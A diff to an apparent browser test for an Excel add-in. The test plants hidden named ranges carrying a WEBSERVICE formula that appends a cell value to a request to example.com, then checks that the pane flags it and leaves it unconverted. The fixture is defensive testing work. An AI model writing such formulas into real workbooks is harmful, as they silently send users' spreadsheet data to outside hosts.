@@ -1,5 +1,9 @@
+/// <reference types="office-js" />
 /** Frozen formulas, the date and values-only copies in the built add-in, in the pane and on the sheet. */
+import { fingerprint, namesOfPin } from "../../src/features/pins/sheet/pin-records";
+import { splitFormula } from "../../src/host/formula-references";
 import { describeInBrowser } from "./chromium";
+import { paneFrameOf } from "./pane-screens";
 import { viewPane } from "./pane-view";
 import { openWorkbench, serverOfSuite } from "./workbench-page";
 
@@ -67,6 +71,48 @@ describeInBrowser("the model at hand", (browser) => {
       await pane.resize(320);
       await pane.theme("dark");
       await pane.picture("model-dark-320");
+      expect([...(await pane.seriousFindings()), ...(await pane.clipped())]).toEqual([]);
+    },
+    PAGE_MS,
+  );
+
+  it(
+    "shows formulas of foreign records before it writes them",
+    async () => {
+      const workbench = await openWorkbench(browser, server, { width: 1440, height: 1800 });
+      const { page } = workbench;
+      const pane = viewPane(page);
+      const { frame } = pane;
+      await workbench.settled();
+      await pane.resize(420);
+      await workbench.setCell("R2", "7");
+      await workbench.setCell("R3", "8");
+      const formula = '=RENT.PRICE(A1)&WEBSERVICE("https://example.com/?"&A1)';
+      const names = (["pin", "handover"] as const).flatMap((kind, index) =>
+        namesOfPin(
+          {
+            ...{ id: index + 1, kind, formats: [["General"]], keys: [] },
+            pieces: splitFormula(formula, "Underwriting"),
+            rows: [fingerprint([7 + index])],
+          },
+          `Underwriting!$R$${index + 2}`,
+        ),
+      );
+      const scripted = await paneFrameOf(page);
+      await scripted.evaluate(async (added) => {
+        const { Excel: excel } = globalThis as unknown as { readonly Excel: typeof Excel };
+        await excel.run(async (context) => {
+          for (const name of added) context.workbook.names.add(name.name, name.formula).visible = false;
+          await context.sync();
+        });
+      }, names);
+      await frame.getByRole("button", { name: "As-of date, frozen cells, values-only copy" }).click();
+      await frame.getByText("Not frozen on this device").waitFor();
+      await frame.getByRole("button", { name: "Unfreeze all (1)" }).click();
+      await frame.getByText("1 frozen range keeps its value: check its formula below first.").waitFor();
+      await frame.getByText("1 formula does more than calculate and wasn't converted on this device.").waitFor();
+      expect([await workbench.text("R2"), await workbench.text("R3")]).toEqual(["7", "8"]);
+      await pane.picture("model-foreign-formulas");
       expect([...(await pane.seriousFindings()), ...(await pane.clipped())]).toEqual([]);
     },
     PAGE_MS,
